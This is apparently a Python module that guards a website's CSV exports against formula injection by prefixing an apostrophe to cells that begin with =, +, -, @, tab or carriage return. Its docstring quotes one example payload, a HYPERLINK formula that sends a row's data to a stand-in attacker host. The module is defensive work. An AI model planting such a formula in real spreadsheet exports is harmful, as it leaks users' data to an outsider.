"""CSV files the site writes: no cell can become a formula when the file is opened in a spreadsheet.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and, in some of them, one
that starts with a tab or a carriage return) as a formula: `=HYPERLINK("http://evil.example/?"&A2, "Alice")`
in a display name sends the row to whoever wrote it when a liaison clicks. Such a cell is written with a leading
apostrophe, which spreadsheets show as text (OWASP's advice). Numbers are written as they are.
Every CSV the site writes goes through `writer()`.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value):
    """`value`, with an apostrophe in front when a spreadsheet would read it as a formula."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


class _Writer:
    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row):
        return self._writer.writerow([neutralised(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(file, **options):
    """A `csv.writer` whose every cell is neutralised."""
    return _Writer(file, **options)
